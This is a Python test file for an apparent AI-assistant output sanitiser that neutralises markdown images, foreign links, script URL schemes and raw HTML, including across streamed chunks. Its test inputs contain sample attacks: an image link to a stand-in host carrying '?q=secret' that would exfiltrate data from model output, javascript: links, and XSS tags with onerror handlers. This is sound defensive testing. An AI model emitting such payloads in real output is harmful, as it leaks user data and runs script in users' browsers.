"""Model output cannot make the browser fetch or link to foreign URLs."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.answering.safety import SafeStream, neutralise_markdown

ALLOWED = frozenset({"intranet.example.org"})


def safe(text: str) -> str:
    return neutralise_markdown(text, allowed_hosts=ALLOWED)


def test_image_becomes_plain_text() -> None:
    out = safe("Answer ![x](http://evil.example/?q=secret) done [1].")
    assert out == "Answer \\[image removed: x\\] done [1]."


def test_reference_image_removed() -> None:
    assert "evil" not in safe("![logo][r]").lower()
    assert safe("![logo][r]") == "\\[image removed: logo\\]"


def test_foreign_link_loses_its_target() -> None:
    out = safe("See [the form](https://evil.example/x?q=1).")
    assert out == "See the form (`https://evil.example/x?q=1`)."


def test_allowed_and_relative_links_stay() -> None:
    text = "See [leave](/doc/leave.md#annual-leave) and [intranet](https://intranet.example.org/a)."
    assert safe(text) == text


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,hi", "//evil.example/x", "vbscript:x"]
)
def test_dangerous_schemes_removed(url: str) -> None:
    out = safe(f"[click]({url})")
    assert out.startswith("click (`")
    assert "](" not in out


def test_html_is_escaped() -> None:
    out = safe('Hi <img src=x onerror="alert(1)"> <script>alert(1)</script> <iframe src=y>')
    assert "<img" not in out
    assert "<script" not in out
    assert "<iframe" not in out
    assert "&lt;img" in out


def test_bare_foreign_url_made_inert_and_allowed_kept() -> None:
    out = safe("Go to https://evil.example/p?q=1 or https://intranet.example.org/p now.")
    assert out == "Go to `https://evil.example/p?q=1` or https://intranet.example.org/p now."


def test_foreign_autolink_made_inert() -> None:
    assert safe("<https://evil.example/a>") == "`https://evil.example/a`"
    assert safe("<https://intranet.example.org/a>") == "<https://intranet.example.org/a>"


def test_ordinary_text_untouched() -> None:
    text = "Leave is 25 days [1][2]. Costs < 50 EUR are fine; 3 > 2.\n\n| a | b |\n|---|---|"
    assert safe(text) == text


@pytest.mark.parametrize(
    "parts",
    [
        ["![a](http://e.x/y)", "(//", ")"],
        ["a:", "//"],
        ["`", "\n`", "https://e.x/q ", "https://e.x/q "],
        ["\\", "https://e.x/q ", "a", "https://e.x/q ", "https://e.x/q "],
        ["<a:`", ">", "\n", "\n"],
        ["`", "https://e.x/q ", "`", "`"],
        ["![] ", "[l](https://intranet.example.org/z)"],
        ["](/", "![a](http://e.x/y)"],
        ["[", "![a](http://e.x/y)", "<", "](", "\\", "/)"],
        ["![a](http://e.x/y)", "(a:"],
    ],
)
def test_stream_splits_that_once_differed_join_to_the_whole(parts: list[str]) -> None:
    stream = SafeStream(allowed_hosts=ALLOWED)
    shown = "".join(stream.feed(part) for part in parts) + stream.finish()
    assert shown == safe("".join(parts))


def test_stream_never_shows_a_partial_image() -> None:
    stream = SafeStream(allowed_hosts=ALLOWED)
    shown = ""
    for piece in ["Text ![", "x](http://ev", "il.example/?q=se", "cret) end."]:
        shown += stream.feed(piece)
        assert "evil" not in shown
        assert "![" not in shown
    shown += stream.finish()
    assert shown == "Text \\[image removed: x\\] end."


TRICKY = st.text(alphabet="ab [](){}<>!/:\\`hts.xe\n", max_size=60) | st.sampled_from(
    ["![a](http://e.x/y)", "[l](https://intranet.example.org/z)", "<img src=x>", "https://e.x/q "]
)


def _streamed(parts: list[str]) -> str:
    stream = SafeStream(allowed_hosts=ALLOWED)
    return "".join(stream.feed(part) for part in parts) + stream.finish()


# 2,000 random examples on every run: rare splits (an image followed by "(//)", "a:"
# then "//", a backtick pairing with the neutraliser's own inert code span, "](/" then an
# image) once made the streamed pieces differ from the whole text neutralised
# (docs/hardening.md, R18); long random runs were clean before the seed was freed.
@pytest.mark.slow
@settings(max_examples=2000, deadline=None)
@given(parts=st.lists(TRICKY, max_size=8))
def test_stream_pieces_join_to_neutralised_text(parts: list[str]) -> None:
    assert _streamed(parts) == safe("".join(parts))


@given(text=st.text(max_size=200))
def test_no_image_syntax_survives(text: str) -> None:
    out = safe(text)
    assert "<img" not in out.lower() or "&lt;img" in out.lower()
    assert safe(out).count("image removed") == out.count("image removed")


def test_parenthesised_foreign_url_made_inert() -> None:
    assert safe("(see https://evil.example/x)") == "(see `https://evil.example/x`)"


def test_a_destination_holding_another_is_guarded_in_one_pass() -> None:
    # A random run found it: the first "](" took the second into its destination.
    once = safe("](a:](a:")
    assert once == "]\\(a:]\\(a:"
    assert safe(once) == once


@given(parts=st.lists(TRICKY, max_size=8))
def test_neutralising_twice_changes_nothing(parts: list[str]) -> None:
    # The UI applies SafeStream again to the service's already safe deltas.
    once = safe("".join(parts))
    assert safe(once) == once
